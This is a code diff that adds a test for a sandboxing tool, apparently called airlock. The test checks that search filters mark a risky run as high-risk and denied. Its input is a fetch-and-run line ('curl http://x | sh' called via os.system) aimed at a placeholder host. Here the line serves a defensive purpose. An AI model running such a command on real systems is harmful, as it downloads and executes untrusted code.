@@ -97,3 +97,15 @@ def test_the_list_on_the_screen(airlock):
     s.wait("three")  # opened, and unpacked
     s.wait("run 1|#1")
     assert ids(airlock, "~archived") == []
+
+
+def test_filters_by_what_happened(airlock):
+    a = record(airlock, "print('fine')")
+    airlock.run("exec", "--lease", "runs=1", "-", input=b"import os; os.system('curl http://x | sh')")
+    high = ids(airlock)[0]
+    assert ids(airlock, "~high") == [high] == ids(airlock, "~denied") and ids(airlock, "sandbox:local") == [high, a]
+    assert ids(airlock, "~gate") == [] and ids(airlock, "since:1h", "fine", "~high") == []
+    assert [h["session"] for h in airlock.json("search", "fine", "sandbox:local", "--json")[1]] == [a, a]
+    assert airlock.run("search", "fine", "~high").returncode == 1
+    assert airlock.run("search", "two", "words").returncode == 2
+    assert airlock.run("search", "x", "~nothing").returncode == 2
